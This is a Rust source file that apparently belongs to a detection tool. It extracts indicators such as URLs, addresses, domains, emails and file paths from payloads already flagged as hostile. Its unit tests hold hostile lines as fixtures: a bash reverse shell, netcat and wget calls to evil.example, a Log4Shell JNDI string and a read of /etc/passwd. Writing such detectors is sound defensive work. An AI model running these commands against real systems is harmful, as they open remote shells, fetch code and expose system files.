//! Finds what a payload points at, each thing once and the most telling first.

mod addresses;
mod domains;
mod files;
mod urls;

use super::text::{part, run};
use addresses::{addresses_v4, addresses_v6, is_address};
use domains::{domains_with_port, fetched, mails};
use files::files;
use urls::urls;

/// Indicators of one message: a payload names one or two hosts; the bound keeps its record short.
pub const MAX_INDICATORS: usize = 8;

/// Characters of a message's findings that are looked through. Payloads have 20 to 500.
pub const MAX_TEXT: usize = 2048;

/// Something to look for elsewhere, as it was written.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Indicator {
    /// `url`, `host-port`, `ip`, `domain`, `email` or `file`.
    pub kind: &'static str,
    pub value: String,
}

/// The indicators in an excerpt that a rule has found hostile, each once, the most telling first.
pub fn in_payload(text: &str) -> Vec<Indicator> {
    let mut found = Found::default();
    let urls = urls(text);
    let mut domains: Vec<&str> = Vec::new();
    let mut addresses: Vec<&str> = Vec::new();
    for url in &urls {
        found.add("url", (*url).to_owned());
    }
    let mut host_port = |found: &mut Found, address, port: Option<&str>| {
        if !is_address(address) {
            return;
        }
        addresses.push(address);
        if let Some(port) = port.filter(|port| is_port(port)) {
            let v6 = address.contains(':');
            found.add(
                "host-port",
                if v6 {
                    format!("[{address}]:{port}")
                } else {
                    format!("{address}:{port}")
                },
            );
        }
    };
    addresses_v4(text, |address, port| host_port(&mut found, address, port));
    addresses_v6(text, |address, port| host_port(&mut found, address, port));
    domains_with_port(text, |domain, port| {
        domains.push(domain);
        if is_port(port) {
            found.add("host-port", format!("{}:{port}", domain.to_ascii_lowercase()));
        }
    });
    for address in addresses {
        found.add("ip", address.to_owned());
    }
    domains.extend(urls.iter().filter_map(|url| urls::host(url)));
    fetched(text, |domain| domains.push(domain));
    for domain in domains {
        found.add("domain", domain.to_lowercase());
    }
    mails(text, |mail| found.add("email", mail.to_owned()));
    files(text, |file| found.add("file", file.to_owned()));
    found.items
}

/// At most `MAX_INDICATORS` indicators of a message's payloads; an address stands once, with its port where it has one.
pub fn of_texts<'a>(texts: impl IntoIterator<Item = &'a str>) -> Vec<Indicator> {
    let mut found = Found::default();
    let mut left = MAX_TEXT;
    for text in texts {
        let (end, count) = run(text, 0, left, |_| true);
        for item in in_payload(part(text, 0, end)) {
            found.add(item.kind, item.value);
        }
        left -= count;
        if left == 0 {
            break;
        }
    }
    // A port follows the last colon; what stands before it is told by the pair already.
    let paired: Vec<String> = (found.items.iter().filter(|item| item.kind == "host-port"))
        .filter_map(|item| item.value.rsplit_once(':'))
        .map(|(host, _)| host.trim_matches(['[', ']']).to_owned())
        .collect();
    let mut items = found.items;
    items.retain(|item| !(matches!(item.kind, "ip" | "domain") && paired.contains(&item.value)));
    items.truncate(MAX_INDICATORS);
    items
}

/// Indicators in the order in which they were found, each once.
#[derive(Default)]
struct Found {
    items: Vec<Indicator>,
    seen: std::collections::HashSet<(&'static str, String)>,
}

impl Found {
    fn add(&mut self, kind: &'static str, value: String) {
        // The few of a usual payload are compared one by one, the hundreds of a hostile one by their hash.
        if self.items.len() < 16 {
            if self.items.iter().any(|item| item.kind == kind && item.value == value) {
                return;
            }
        } else {
            if self.seen.is_empty() {
                self.seen
                    .extend(self.items.iter().map(|item| (item.kind, item.value.clone())));
            }
            if !self.seen.insert((kind, value.clone())) {
                return;
            }
        }
        self.items.push(Indicator { kind, value });
    }
}

fn run_of(bytes: &[u8], start: usize, most: usize, is: impl Fn(u8) -> bool) -> usize {
    let rest = bytes.get(start..).unwrap_or_default();
    start + rest.iter().take(most).take_while(|&&byte| is(byte)).count()
}

fn is_port(digits: &str) -> bool {
    digits.parse::<u16>().is_ok_and(|port| port > 0)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> Vec<String> {
        in_payload(text)
            .into_iter()
            .map(|item| format!("{} {}", item.kind, item.value))
            .collect()
    }

    #[test]
    fn what_a_shell_would_connect_to() {
        let text = "bash -i >& /dev/tcp/192.0.2.195:3456 0>&1";
        assert_eq!(shown(text), ["host-port 192.0.2.195:3456", "ip 192.0.2.195"]);
        assert_eq!(of_texts([text]).len(), 1);
        assert_eq!(shown("[2001:db8::1]:4444")[0], "host-port [2001:db8::1]:4444");
        assert_eq!(shown("wget -q --tries=1 Evil.example"), ["domain evil.example"]);
        assert_eq!(
            shown("nc evil.example 4444"),
            ["host-port evil.example:4444", "domain evil.example"]
        );
    }

    #[test]
    fn addresses_of_the_web_and_mail_and_files() {
        assert_eq!(
            shown("${jndi:ldap://h.example:1389/a}"),
            [
                "url ldap://h.example:1389/a",
                "host-port h.example:1389",
                "domain h.example"
            ]
        );
        assert_eq!(shown("mailto:a@b.example sip:c@d.example"), ["email a@b.example"]);
        assert_eq!(
            shown("cat /etc/passwd c:\\windows\\x"),
            ["file /etc/passwd", "file c:\\windows\\x"]
        );
    }

    #[test]
    fn many_indicators_stand_once_each() {
        let text: String = (0..200).map(|n| format!("10.0.0.{} ", n % 100)).collect();
        assert_eq!(shown(&text).iter().filter(|item| item.starts_with("ip")).count(), 100);
        assert_eq!(of_texts([text.as_str()]).len(), MAX_INDICATORS);
    }
}
